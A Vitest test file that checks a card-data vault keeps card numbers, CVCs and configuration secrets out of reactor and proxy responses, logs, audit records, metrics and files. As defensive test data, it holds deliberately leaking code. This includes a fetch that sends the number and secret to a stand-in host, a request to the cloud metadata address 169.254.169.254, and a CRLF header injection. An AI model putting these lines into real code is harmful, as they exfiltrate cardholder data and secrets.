import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeApplication } from '../processes/vault-process.ts';
import { call, found, leaks, number, openWorld, secret, type World } from './leaking-code.ts';
import { filesIn } from './search.ts';
import { cvcOf, marker } from './secrets.ts';

/** Runs a body of code with the card, and gives what its caller gets. */
const react = async (world: World, body: string) => {
  const code = `const { BadRequestError, InvalidPaymentMethodError } = require('@basis-theory/basis-theory-reactor-formulas-sdk-js');
    module.exports = async ({ sourceToken: { data: d }, configuration: { K: k } }) => { const n = d.number; ${body} };`;
  const settings = [{ name: 'K', type: 'string' }];
  const formula = { name: 'F', type: 'private', source_token_type: 'card', code, configuration: settings };
  const made = await call(world, world.management, '/reactor-formulas', formula);
  expect(made.status, made.text).toBe(201);
  const reactor = { name: 'R', formula: { id: JSON.parse(made.text).id }, configuration: { K: secret } };
  const reactor_id = JSON.parse((await call(world, world.management, '/reactors', reactor)).text).id;
  const card = { number, expiration_month: 12, expiration_year: 2030, cvc: cvcOf(number) };
  const { text } = await call(world, world.key, '/atomic/cards', { card });
  return await call(world, world.key, `/atomic/cards/${JSON.parse(text).id}/react`, { reactor_id });
};

const bad = "require('@basis-theory/basis-theory-reactor-formulas-sdk-js').BadRequestError";

/** Transforms that leak what a partner sends, or fail on it, by what they are called and how the call is answered. */
const leakingProxies = (at: string): [name: string, status: number, transforms: object][] => {
  const code = (body: string) => ({
    request_transforms: [
      {
        type: 'code',
        code: `module.exports = async ({ args, configuration: { K: k } }) => { const n = args.body.number, c = args.body.cvc; ${body} };`,
      },
    ],
  });
  const card = { type: 'card', data: { number: '{{ req.number }}1', cvc: '{{ req.cvc }}' } };
  const note = { type: 'token', data: '{{ req.note }}', metadata: { a: '{{ req }}' } };
  const mask = { type: 'mask', matcher: 'regex', expression: '"(?:number|cvc|note)":"([^"]*)"', replacement: '*' };
  return [
    [
      'writes it to the console',
      200,
      code("console.log(n, [...n].join(' '), btoa(n), c, k, { args }); return { body: {} }"),
    ],
    ['throws it', 500, code('throw new Error(n + c + k)')],
    ['throws it in a typed error', 400, code(`throw new (${bad})([n, c, k].join(' '))`)],
    ['returns it in another form', 500, code('return { [n]: c, k }')],
    ['returns too much of it', 500, code('return { body: n.repeat(100_000) }')],
    ['asks a host that is named after it', 500, code("await fetch('https://' + n + '.invalid/?k=' + k)")],
    ['asks an address with it', 500, code("await fetch('https://169.254.169.254/' + n)")],
    ['sends a header that is none', 500, code("return { headers: { a: n + '\\r\\n' + c } }")],
    ['makes a card that cannot be', 400, { request_transforms: [{ type: 'tokenize', options: { token: card } }] }],
    ['makes metadata that cannot be', 400, { request_transforms: [{ type: 'tokenize', options: { token: note } }] }],
    ['masks what is repeated', 200, { response_transforms: [mask] }],
    ['loses its destination', 502, { destination_url: at.replace(/\d+$/, '1') }],
  ];
};

/** What a partner sends to a proxy without a key, and what it is answered. */
const partner = async (world: World, transforms: object) => {
  const wish = { name: 'P', destination_url: `${world.at}/200`, require_auth: false, configuration: { K: secret } };
  const { status, text } = await call(world, world.management, '/proxies', { ...wish, ...transforms });
  expect(status, text).toBe(201);
  const response = await fetch(`${world.vault.origin}/proxy`, {
    method: 'POST',
    headers: { 'bt-proxy-key': JSON.parse(text).key, 'content-type': 'application/json' },
    body: JSON.stringify({ number, cvc: cvcOf(number), note: marker }),
  });
  const fields = [...response.headers].map((field) => field.join(': ')).join('\n');
  return { status: response.status, text: `${fields}\n${await response.text()}` };
};

describe('reactors whose code leaks in every way', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  }, 60_000);
  afterAll(async () => {
    await world.vault.kill();
    await world.close();
  });

  test('tell their caller nothing of what they were given, unless the code gives it back', async () => {
    for (const [name, status, body] of leaks(world.at)) {
      const answer = await react(world, body);
      expect({ name, status: answer.status, text: answer.text }).toMatchObject({ name, status });
      expect(found(name, answer.text), name).toEqual([]);
    }
    const shown = await react(world, 'return { n, k, code: d.cvc }');
    expect(new Set(found('raw', shown.text).map(({ secret: which }) => which)).size).toBeGreaterThan(1);
  }, 120_000);

  test('are no worse as transforms of a proxy that everybody may call', async () => {
    for (const [name, status, transforms] of leakingProxies(world.at)) {
      const answer = await partner(world, transforms);
      expect({ name, status: answer.status, text: answer.text }).toMatchObject({ name, status });
      expect(found(name, answer.text), name).toEqual([]);
    }
    // The acquirer repeats what it is sent: without a mask, the search finds the number in its answer.
    const echoed = await partner(world, {});
    expect(found('echo', echoed.text).length).toBeGreaterThan(0);
  }, 120_000);

  test('leave nothing of it in logs, audit, metrics and files', async () => {
    expect(world.vault.output().toString()).toContain('reactor console');
    expect(world.vault.output().toString()).toContain('transform console');
    const headers = { 'bt-api-key': await makeApplication(world.vault, world.management, 'management', ['log:read']) };
    const logs = await (await fetch(`${world.vault.origin}/logs?size=100`, { headers })).text();
    expect(logs).toContain('Card used');
    expect(found('audit', logs)).toEqual([]);
    expect(found('metrics', await (await fetch(world.metrics)).text())).toEqual([]);
    expect(await world.vault.stop()).toBe(0);
    const places = [...filesIn(world.folder.path), { path: 'output', bytes: world.vault.output() }];
    expect(places.flatMap(({ path, bytes }) => found(path, bytes))).toEqual([]);
  }, 60_000);
});
